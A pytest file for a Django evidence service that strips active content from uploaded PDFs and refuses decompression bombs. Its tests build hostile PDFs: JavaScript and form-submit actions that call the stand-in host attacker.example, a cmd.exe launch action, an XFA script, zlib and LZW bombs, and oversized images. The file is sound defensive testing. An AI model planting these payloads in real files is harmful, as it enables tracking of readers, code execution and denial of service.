"""Issue 21 point 4: a PDF is stored inert (no script, no action that reaches out, no form script, no
XFA, no attached file) and a decompression bomb is refused by a budget on the decoded streams.

Each test builds its PDF with pikepdf as an attacker would, sends it through the evidence service, then
reopens what would be stored and walks every object (each indirect object and everything written
directly inside it).
"""

import io
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from reporting.tips.services import evidence, pdf_metadata
from tests.factories import image_bytes

CALL_HOME = "https://attacker.example/ping?who=officer"
SCRIPT = "app.launchURL('https://attacker.example/ping', true);"


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def new_pdf():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.add_blank_page(page_size=(200, 200))
    return pdf


def saved(pdf):
    output = io.BytesIO()
    pdf.save(output)
    return output.getvalue()


def js_action(script=SCRIPT):
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(script))


def uri_action(uri=CALL_HOME):
    return pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri))


def launch_action():
    return pikepdf.Dictionary(
        S=pikepdf.Name.Launch,
        F=pikepdf.String("cmd.exe"),
        Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe")),
    )


def link(pdf, action):
    annotation = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[10, 10, 100, 40],
            A=action,
            Border=[0, 0, 0],
        )
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))
    return annotation


def stored(content):
    return evidence.prepare(upload("bukti.pdf", content)).content


def everything(content):
    """Every dictionary and stream dictionary of the stored file, and its catalog, for inspection."""
    pdf = pikepdf.open(io.BytesIO(content))
    objects = [obj for obj in pdf_metadata.walk(pdf) if not isinstance(obj, pikepdf.Array)]
    return pdf, objects


def assert_inert(content, *needles):
    pdf, objects = everything(content)
    with pdf:
        assert len(pdf.pages) == 2  # still the same document
        open_action = pdf.Root.get("/OpenAction")
        assert open_action is None or isinstance(open_action, pikepdf.Array)
        for obj in objects:
            assert not {
                "/JS",
                "/JavaScript",
                "/AA",
                "/XFA",
                "/EF",
                "/EmbeddedFiles",
                "/URI",
                "/Launch",
            } & set(obj.keys()), obj
            action = obj.get("/A")
            if action is not None:
                assert action.get("/S") == pikepdf.Name.GoTo, action
            assert obj.get("/S") not in {pikepdf.Name(name) for name in pdf_metadata.ACTION_TYPES - {"/GoTo"}}
        assert pdf_metadata.active_content(pdf) == []
    for needle in needles:  # not even in a compressed object stream
        assert needle.encode() not in content
        assert needle.encode() not in _inflated(content)


def _inflated(content):
    """The stored file with every stream decoded, so text hidden in an object stream is found too."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        parts = [content]
        for obj in pdf.objects:
            if isinstance(obj, pikepdf.Stream):
                parts.append(obj.read_bytes())
        return b"".join(parts)


def test_an_open_action_with_javascript_is_removed():
    pdf = new_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(js_action())
    assert_inert(stored(saved(pdf)), "launchURL", "attacker.example")


def test_an_open_action_that_opens_an_address_is_removed():
    pdf = new_pdf()
    pdf.Root.OpenAction = uri_action()
    assert_inert(stored(saved(pdf)), "attacker.example")


def test_an_open_action_that_only_shows_a_page_is_kept():
    pdf = new_pdf()
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])
    content = stored(saved(pdf))
    with pikepdf.open(io.BytesIO(content)) as cleaned:
        assert cleaned.Root.OpenAction[0].objgen == cleaned.pages[1].obj.objgen


def test_document_level_javascript_is_removed():
    pdf = new_pdf()
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(js_action())])
        )
    )
    assert_inert(stored(saved(pdf)), "launchURL")


def test_page_and_catalog_additional_actions_are_removed():
    pdf = new_pdf()
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=js_action(), C=uri_action())
    pdf.Root.AA = pikepdf.Dictionary(WC=js_action("this.submitForm('https://attacker.example/x')"))
    assert_inert(stored(saved(pdf)), "launchURL", "attacker.example", "submitForm")


def test_an_annotation_launching_a_program_loses_its_action():
    pdf = new_pdf()
    link(pdf, launch_action())
    content = stored(saved(pdf))
    assert_inert(content, "cmd.exe")


def test_a_link_to_an_address_stays_a_rectangle_that_leads_nowhere():
    pdf = new_pdf()
    link(pdf, uri_action())
    content = stored(saved(pdf))
    assert_inert(content, "attacker.example")
    with pikepdf.open(io.BytesIO(content)) as cleaned:
        (annotation,) = cleaned.pages[0].Annots
        assert annotation.Subtype == pikepdf.Name.Link and "/A" not in annotation


def test_a_link_inside_the_document_keeps_working():
    pdf = new_pdf()
    link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])))
    content = stored(saved(pdf))
    with pikepdf.open(io.BytesIO(content)) as cleaned:
        (annotation,) = cleaned.pages[0].Annots
        assert str(annotation.A.S) == "/GoTo" and annotation.A.D[0].objgen == cleaned.pages[1].obj.objgen


def test_a_jump_chained_to_a_script_is_removed():
    pdf = new_pdf()
    chained = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit]))
    chained.Next = js_action()
    link(pdf, chained)
    assert_inert(stored(saved(pdf)), "launchURL")


def test_form_field_scripts_and_submit_actions_are_removed():
    pdf = new_pdf()
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("nama"),
            V=pikepdf.String("isi formulir"),
            Rect=[10, 50, 150, 70],
            AA=pikepdf.Dictionary(K=js_action(), F=js_action(), Bl=js_action()),
            A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String(CALL_HOME)),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    content = stored(saved(pdf))
    assert_inert(content, "launchURL", "attacker.example")
    with pikepdf.open(io.BytesIO(content)) as cleaned:
        assert str(cleaned.Root.AcroForm.Fields[0].V) == "isi formulir"  # what was filled in stays


def test_an_xfa_form_is_removed():
    pdf = new_pdf()
    xfa = pdf.make_stream(
        b"<xdp:xdp><script contentType='application/x-javascript'>xfa.host.gotoURL('https://attacker.example')</script></xdp:xdp>"
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)
    assert_inert(stored(saved(pdf)), "attacker.example", "xfa.host")


def test_a_media_annotation_is_dropped():
    pdf = new_pdf()
    screen = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Screen,
            Rect=[0, 0, 50, 50],
            A=pikepdf.Dictionary(S=pikepdf.Name.Rendition, JS=pikepdf.String(SCRIPT)),
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([screen])
    content = stored(saved(pdf))
    assert_inert(content, "launchURL")
    with pikepdf.open(io.BytesIO(content)) as cleaned:
        assert len(cleaned.pages[0].get("/Annots", [])) == 0


def test_bookmarks_lose_their_scripts_but_not_their_titles():
    pdf = new_pdf()
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Halaman 2", 1))
    item = pdf.Root.Outlines.First
    item.A = js_action()
    content = stored(saved(pdf))
    assert_inert(content, "launchURL")
    with pikepdf.open(io.BytesIO(content)) as cleaned:
        assert str(cleaned.Root.Outlines.First.Title) == "Halaman 2"


def test_a_pdf_with_an_attached_file_is_refused_with_the_reason():
    pdf = new_pdf()
    pdf.attachments["kontak.vcf"] = pikepdf.AttachedFileSpec(pdf, b"BEGIN:VCARD\nFN:Budi\nEND:VCARD\n")
    with pytest.raises(ValidationError) as caught:
        stored(saved(pdf))
    assert caught.value.code == "pdf_attachments" and "bukti.pdf" in caught.value.messages[0]


def test_an_attachment_annotation_is_refused_too():
    pdf = new_pdf()
    spec = pikepdf.AttachedFileSpec(pdf, b"secret", filename="catatan.txt")
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec.obj
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annotation)])
    with pytest.raises(ValidationError) as caught:
        stored(saved(pdf))
    assert caught.value.code == "pdf_attachments"


# --- decompression bombs --------------------------------------------------------------------------


def bomb(decoded_megabytes, filters=1):
    """A PDF of a few hundred KB whose one stream decodes to `decoded_megabytes` of zeros."""
    pdf = new_pdf()
    data = b"\0" * (decoded_megabytes * 1024 * 1024)
    for _ in range(filters):
        data = zlib.compress(data, 9)
    stream = pikepdf.Stream(pdf, data)
    stream.Filter = (
        pikepdf.Array([pikepdf.Name.FlateDecode] * filters) if filters > 1 else pikepdf.Name.FlateDecode
    )
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
    output = io.BytesIO()
    pdf.save(output, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return output.getvalue()


def test_a_compressed_bomb_is_refused_by_the_decoded_size():
    content = bomb(300)
    assert len(content) < 1024 * 1024  # a third of a megabyte on the wire
    with pytest.raises(ValidationError) as caught:
        stored(content)
    assert caught.value.code == "pdf_bomb" and "bukti.pdf" in caught.value.messages[0]


def test_a_doubly_compressed_bomb_is_refused_too():
    with pytest.raises(ValidationError) as caught:
        stored(bomb(400, filters=2))
    assert caught.value.code == "pdf_bomb"


def test_many_streams_under_the_limit_each_are_refused_by_the_running_total(monkeypatch):
    monkeypatch.setattr(pdf_metadata, "MAX_DECODED", 8 * 1024 * 1024)
    pdf = new_pdf()
    for page in pdf.pages:
        stream = pikepdf.Stream(pdf, zlib.compress(b"\0" * (5 * 1024 * 1024)))
        stream.Filter = pikepdf.Name.FlateDecode
        page.obj.Contents = pdf.make_indirect(stream)
    output = io.BytesIO()
    pdf.save(output, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    with pytest.raises(ValidationError) as caught:
        stored(output.getvalue())
    assert caught.value.code == "pdf_bomb"


def lzw_bomb():
    """The classic LZW bomb: each code is the one about to be defined, so each stands for a string one
    byte longer than the last (1 + 2 + ... + 3800 bytes from under 6 KB)."""
    codes = [0, *range(258, 4095)]
    bits, width, size = [], 9, 258
    for index, code in enumerate(codes):
        bits.append(format(code, f"0{width}b"))
        if index:
            size += 1
        if size + 1 >= (1 << width) and width < 12:
            width += 1
    packed = "".join(bits)
    packed += "0" * (-len(packed) % 8)
    return int(packed, 2).to_bytes(len(packed) // 8, "big")


def test_an_lzw_bomb_is_counted_without_being_decoded():
    data = lzw_bomb()
    total = pdf_metadata._lzw_decoded_length(data, 10**12)
    assert total == sum(range(1, len(range(258, 4095)) + 2)) and len(data) < 6000  # over 1000:1
    assert pdf_metadata._lzw_decoded_length(data, 1000) < 1000 + 4096  # stops at the limit


def test_an_lzw_bomb_in_a_pdf_is_refused(monkeypatch):
    monkeypatch.setattr(pdf_metadata, "MAX_STREAM_DECODED", 1024 * 1024)
    pdf = new_pdf()
    stream = pikepdf.Stream(pdf, lzw_bomb())
    stream.Filter = pikepdf.Name.LZWDecode
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
    output = io.BytesIO()
    pdf.save(output, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    with pytest.raises(ValidationError) as caught:
        stored(output.getvalue())
    assert caught.value.code == "pdf_bomb"


def test_a_picture_declaring_absurd_pixels_is_refused():
    pdf = new_pdf()
    picture = pikepdf.Stream(pdf, image_bytes("JPEG"))
    picture.Type, picture.Subtype, picture.Filter = (
        pikepdf.Name.XObject,
        pikepdf.Name.Image,
        pikepdf.Name.DCTDecode,
    )
    picture.Width, picture.Height, picture.BitsPerComponent = 100_000, 100_000, 8
    picture.ColorSpace = pikepdf.Name.DeviceRGB
    pdf.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=picture))
    with pytest.raises(ValidationError) as caught:
        stored(saved(pdf))
    assert caught.value.code == "pdf_bomb"


def test_a_normal_document_with_compressed_pages_passes_the_budget():
    pdf = new_pdf()
    for number, page in enumerate(pdf.pages):
        page.obj.Contents = pdf.make_stream(
            f"BT /F1 12 Tf 20 100 Td (Halaman {number}) Tj ET".encode() * 2000
        )
    content = stored(saved(pdf))
    with pikepdf.open(io.BytesIO(content)) as cleaned:
        assert b"Halaman 1" in cleaned.pages[1].Contents.read_bytes()
